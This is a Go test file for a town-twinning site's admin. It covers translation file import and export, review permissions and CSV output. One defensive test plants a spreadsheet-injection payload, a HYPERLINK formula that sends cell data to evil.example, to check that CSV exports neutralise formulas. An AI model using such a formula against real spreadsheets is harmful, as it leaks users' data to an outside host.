package web_test

import (
	"encoding/csv"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"twintowns/internal/twinning"
)

// fillPO sets the msgstr of the entry whose msgctxt is unit.
func fillPO(t *testing.T, po, unit, text string) string {
	t.Helper()
	re := regexp.MustCompile(`(msgctxt "` + regexp.QuoteMeta(unit) + `"\nmsgid (?:".*"\n)+)msgstr (?:".*"\n)+`)
	if !re.MatchString(po) {
		t.Fatalf("no entry %s in\n%.3000s", unit, po)
	}
	return re.ReplaceAllString(po, "${1}msgstr \""+text+"\"\n")
}

// Finding 5: a byte order mark does not stop a PO or XLIFF file, whatever its name, and a file
// just under 8 MB is confirmed as it was previewed: the upload is not posted again.
func TestImportBOMAndLargeFiles(t *testing.T) {
	e := newEnv(t)
	s := siedlceEditor(t, e, "jan@siedlce.pl")
	unit := unitOf(t, e, "siedlce", "pescantina", "name")
	bom := "\xEF\xBB\xBF"
	po := func() string { return s.export("siedlce", exportForm("pl", "it", "all", "po")).body }
	xlf := func() string { return s.export("siedlce", exportForm("pl", "it", "all", "xliff")).body }
	tests := []struct {
		name, file string
		body       func() string
		want       string
	}{
		{"PO with a BOM", "siedlce.po", func() string { return bom + fillPO(t, po(), unit, "Pescantina (1)") }, "Pescantina (1)"},
		{"PO with a BOM and no extension", "upload", func() string { return bom + fillPO(t, po(), unit, "Pescantina (2)") }, "Pescantina (2)"},
		{"XLIFF with a BOM", "x.xlf", func() string { return bom + string(agency(t, xlf(), map[string]string{unit: "Pescantina (3)"})) }, "Pescantina (3)"},
		{"XLIFF just under 8 MB", "big.xlf", func() string {
			f := string(agency(t, xlf(), map[string]string{unit: "Pescantina (4)"}))
			return strings.Replace(f, "</body>", strings.Repeat(" ", 8<<20-len(f)-64)+"</body>", 1)
		}, "Pescantina (4)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			body := tc.body()
			if len(body) > 8<<20 {
				t.Fatalf("%d bytes", len(body))
			}
			p := s.importFile("siedlce", tc.file, []byte(body))
			if p.StatusCode != http.StatusOK || len(p.ticked) != 1 {
				t.Fatalf("preview: %d %v\n%.3000s", p.StatusCode, p.ticked, p.body)
			}
			if res := s.confirm("siedlce", p.token, "publish", p.ticked...); res.StatusCode != http.StatusOK {
				t.Fatalf("confirm: %d\n%.2000s", res.StatusCode, res.body)
			}
			if got := fieldOf(t, s, e, "siedlce", "pescantina", "name_it"); got != tc.want {
				t.Errorf("imported %q", got)
			}
		})
	}
}

// Finding 6: a target the file marks new or needing translation is no translation and is not
// imported; a translation marked for review waits for a tick; exported translations that are
// complete say approved="yes", out-of-date ones do not.
func TestImportStatesAndApproved(t *testing.T) {
	e := newEnv(t)
	s := siedlceEditor(t, e, "jan@siedlce.pl")
	xlf := s.export("siedlce", exportForm("pl", "it", "all", "xliff")).body
	units := map[string]string{
		unitOf(t, e, "siedlce", "pescantina", "name"): "needs-translation",
		unitOf(t, e, "siedlce", "dasing", "name"):     "new",
		unitOf(t, e, "siedlce", "sabinov", "name"):    "needs-review-translation",
	}
	for id, state := range units {
		re := regexp.MustCompile(`(?s)(<trans-unit id="` + id + `"[^>]*>\s*<source[^>]*>.*?</source>\s*)<target[^>]*>.*?</target>`)
		if !re.MatchString(xlf) {
			t.Fatalf("no unit %s", id)
		}
		xlf = re.ReplaceAllString(xlf, `${1}<target state="`+state+`">Testo `+state+`</target>`)
	}
	p := s.importFile("siedlce", "x.xlf", []byte(xlf))
	if p.StatusCode != http.StatusOK || len(p.ticked) != 0 || strings.Contains(p.body, "Testo new") || strings.Contains(p.body, "Testo needs-translation") ||
		!strings.Contains(p.body, "Testo needs-review-translation") || !strings.Contains(p.body, s.translator().T("admin.import.needs_review")) {
		t.Fatalf("preview: %d %v\n%s", p.StatusCode, p.ticked, p.body)
	}

	// approved="yes" on complete translations only
	e2 := newEnv(t)
	s2 := e2.staff(t, "anna@seinajoki.fi", "seinajoki", false)
	s2.login("anna@seinajoki.fi")
	path := "/admin/sites/seinajoki/cities/" + itoa(cityID(t, e2, "seinajoki", "koszalin"))
	form := formOf(t, s2.get(path).body)
	form.Set("description_sv", form.Get("description_sv")+" Ny mening.")
	form.Set("action", "draft")
	s2.post(path, form)
	out := s2.export("seinajoki", exportForm("sv", "fi", "all", "xliff")).body
	unit := func(id string) string {
		return regexp.MustCompile(`<trans-unit id="` + id + `"[^>]*>`).FindString(out)
	}
	if u := unit(unitOf(t, e2, "seinajoki", "koszalin", "name")); !strings.Contains(u, `approved="yes"`) {
		t.Errorf("a complete translation is not approved: %s", u)
	}
	if u := unit(unitOf(t, e2, "seinajoki", "koszalin", "description")); u == "" || strings.Contains(u, `approved="yes"`) {
		t.Errorf("an out-of-date translation is approved: %q", u)
	}
}

// Finding 7: the export form starts from the site's default language, into the first
// language that has something missing or out of date.
func TestExportFormDefaults(t *testing.T) {
	e := newEnv(t)
	s := siedlceEditor(t, e, "jan@siedlce.pl")
	page := s.get("/admin/sites/siedlce/translations").body
	selected := func(name string) string {
		sel := regexp.MustCompile(`(?s)<select id="` + name + `" name="` + name + `">.*?</select>`).FindString(page)
		m := regexp.MustCompile(`<option value="([a-z]+)" selected>`).FindStringSubmatch(sel)
		if m == nil {
			return ""
		}
		return m[1]
	}
	site, _ := e.db.SiteBySlug(t.Context(), "siedlce")
	if got := selected("from"); got != site.DefaultLang || got != "pl" {
		t.Errorf("source language %q, want the default pl", got)
	}
	if got := selected("to"); got == "" || got == "pl" {
		t.Errorf("target language %q", got)
	}
	if page := s.get("/admin/sites/siedlce/translations?lang=fi").body; !strings.Contains(page, `<option value="fi" selected>`) {
		t.Error("the filtered language is not the export's target")
	}
}

// Finding 11: review marks are language-scoped: a translator of Italian cannot mark a
// Finnish field checked through any form, and the parity report keeps it out of date.
func TestTranslatorCannotCheckOtherLanguages(t *testing.T) {
	e := newEnv(t)
	sites, _ := e.db.Sites(t.Context())
	tr := e.addUser(t, twinning.User{Email: "it@example.org", Role: twinning.RoleTranslator, Sites: []int64{sites[0].ID}, Langs: []string{"it"}})
	admin := e.staff(t, "boss@example.org", "", true)
	admin.login("boss@example.org")
	path := "/admin/sites/seinajoki/cities/" + itoa(cityID(t, e, "seinajoki", "koszalin"))
	form := formOf(t, admin.get(path).body)
	form.Set("description_sv", form.Get("description_sv")+" Ny mening.")
	form.Set("reviewed_fi", "")
	form.Set("action", "draft")
	if res := admin.post(path, form); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("draft: %d", res.StatusCode)
	}
	full := formOf(t, admin.get(path).body)
	full.Set("checked_description_fi", "on")
	full.Set("action", "draft")
	if res := tr.post(path, full); res.StatusCode != http.StatusForbidden {
		t.Errorf("translator of Italian checking Finnish on the edit form: %d", res.StatusCode)
	}
	tf := formOf(t, tr.get(path+"/translate?to=it").body)
	tf.Set("checked_description_fi", "on")
	tf.Set("action", "draft")
	tr.post(path+"/translate?to=it", tf)
	csv := admin.get("/admin/sites/seinajoki/translations/parity.csv").body
	if !regexp.MustCompile(`city/\d+,[^\n]*,description,fi,outdated`).MatchString(csv) {
		t.Errorf("Finnish description no longer out of date:\n%s", csv)
	}
}

// Finding 10: a city name that is a spreadsheet formula reaches neither the open-data CSV
// nor the parity CSV as one.
func TestCSVCellsNeverStartAFormula(t *testing.T) {
	e := newEnv(t)
	s := siedlceEditor(t, e, "jan@siedlce.pl")
	s.lang = "it"
	formula := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	publishField(t, s, e, "siedlce", "pescantina", "name_it", formula)
	path := "/admin/sites/siedlce/cities/" + itoa(cityID(t, e, "siedlce", "dasing"))
	form := formOf(t, s.get(path).body)
	form.Set("name_it", "@SUM(1+1)")
	form.Set("description_it", form.Get("description_it")+" Nuova frase.")
	form.Set("description_pl", "")
	form.Set("action", "draft")
	if res := s.post(path, form); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("draft: %d\n%.2000s", res.StatusCode, res.body)
	}
	e.srv.Invalidate()
	for name, body := range map[string]string{
		"open data": e.get(t, siedlce, "/data/partnerships.csv").body,
		"parity":    s.get("/admin/sites/siedlce/translations/parity.csv").body,
	} {
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		found := false
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !regexp.MustCompile(`^-?[0-9.]+$`).MatchString(cell) {
					t.Errorf("%s: a cell starts a formula: %q", name, cell)
				}
				found = found || strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "@SUM")
			}
		}
		if !found {
			t.Errorf("%s: the names are not in the CSV:\n%s", name, body)
		}
	}
}
